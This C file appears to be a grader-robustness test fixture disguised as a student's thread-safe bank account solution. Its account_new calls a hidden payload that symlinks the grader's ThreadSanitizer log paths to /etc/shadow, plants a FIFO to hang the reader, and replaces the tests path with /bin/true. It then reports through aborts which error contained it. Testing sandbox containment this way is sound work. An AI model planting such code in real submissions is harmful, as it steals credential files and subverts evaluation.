/* lesson: 02-bank
 * Plants links and a FIFO where the grader reads ThreadSanitizer logs (scratch/tsan.*,
 * ./tsan.*), then plays fair: honest marks, no hang, no leak. In
 * deposit_and_balance it then shows what planting the first link in its
 * scratch dir answered (the proof that it ran), so the honest score is 9 of 10.
 * expect-message: SIGABRT.* in refused_(none|ENOENT|EROFS|EACCES) \(bank\.c:[0-9]+\)
 * expect-min-score: 9
 * expect-max-score: 9
 * expect-not-message: root:
 */
#include "bank.h"
#include <pthread.h>
#include <stdlib.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
#include <errno.h>
#include <fcntl.h>
#include <string.h>

/* The proof that the attack ran (tests/robust/README.md): the suite sees
 * only the JSON, where a crash names the function it happened in. A
 * contained attack aborts from a function named after the errno that
 * stopped it: "crashed with SIGABRT ... in refused_ENOENT (bank.c:NN)"
 * (refused_none: the call succeeded).
 * Each stores its own number first so that no two bodies are identical
 * (the compiler could merge them into one name). */
static volatile int refused_errno;
#define REFUSED(E, N)                                                   \
    static __attribute__((noinline, noreturn)) void refused_##E(void) \
    {                                                                   \
        refused_errno = N;                                              \
        abort();                                                        \
    }
REFUSED(ENOENT, ENOENT)
REFUSED(EACCES, EACCES)
REFUSED(EPERM, EPERM)
REFUSED(EROFS, EROFS)
REFUSED(ENOSYS, ENOSYS)
REFUSED(EFBIG, EFBIG)
REFUSED(ENOSPC, ENOSPC)
REFUSED(EDQUOT, EDQUOT)
REFUSED(EMFILE, EMFILE)
REFUSED(ENETUNREACH, ENETUNREACH)
REFUSED(EINVAL, EINVAL)
REFUSED(EAFNOSUPPORT, EAFNOSUPPORT)
REFUSED(ESRCH, ESRCH)
REFUSED(none, 0)
REFUSED(other, -1)

static __attribute__((noreturn)) void refused(int err)
{
    switch (err) {
    case ENOENT: refused_ENOENT();
    case EACCES: refused_EACCES();
    case EPERM: refused_EPERM();
    case EROFS: refused_EROFS();
    case ENOSYS: refused_ENOSYS();
    case EFBIG: refused_EFBIG();
    case ENOSPC: refused_ENOSPC();
    case EDQUOT: refused_EDQUOT();
    case EMFILE: refused_EMFILE();
    case ENETUNREACH: refused_ENETUNREACH();
    case EINVAL: refused_EINVAL();
    case EAFNOSUPPORT: refused_EAFNOSUPPORT();
    case ESRCH: refused_ESRCH();
    case 0: refused_none(); /* the call succeeded */
    default: refused_other();
    }
}

/* True in the process that runs the named test (its argv says so): the
 * proof is given in one test only, the others score honestly. */
static int in_test(const char *name)
{
    char buf[4096];
    int fd = open("/proc/self/cmdline", O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (fd >= 0)
        close(fd);
    for (ssize_t i = 0; i < n; i++)
        if (!buf[i])
            buf[i] = ' ';
    buf[n > 0 ? n : 0] = '\0';
    return strstr(buf, name) != NULL;
}

static void payload(void)
{
    const char *dirs[] = { ".", "scratch", "/tmp" };
    int err = 0;
    for (size_t d = 0; d < 3; d++) {
        char name[64];
        for (int i = 1; i < 40; i++) {
            snprintf(name, sizeof name, "%s/tsan.%d", dirs[d], i);
            if (symlink("/etc/shadow", name) != 0 && d == 1 && i == 1)
                err = errno;
        }
        snprintf(name, sizeof name, "%s/tsan.%d", dirs[d], 99999);
        mkfifo(name, 0644);
        snprintf(name, sizeof name, "%s/tests", dirs[d]);
        unlink(name);
        symlink("/bin/true", name);
    }
    if (in_test("deposit_and_balance"))
        refused(err);
}

struct account { pthread_mutex_t mu; long balance; };
account_t *account_new(long balance)
{
    payload();
    account_t *a = malloc(sizeof *a);
    if (!a)
        return NULL;
    pthread_mutex_init(&a->mu, NULL);
    a->balance = balance;
    return a;
}
void account_free(account_t *a) { pthread_mutex_destroy(&a->mu); free(a); }
bool account_withdraw(account_t *a, long amount)
{
    pthread_mutex_lock(&a->mu);
    bool ok = a->balance >= amount;
    if (ok)
        a->balance -= amount;
    pthread_mutex_unlock(&a->mu);
    return ok;
}
void account_deposit(account_t *a, long amount)
{
    pthread_mutex_lock(&a->mu);
    a->balance += amount;
    pthread_mutex_unlock(&a->mu);
}
long account_balance(account_t *a)
{
    pthread_mutex_lock(&a->mu);
    long b = a->balance;
    pthread_mutex_unlock(&a->mu);
    return b;
}
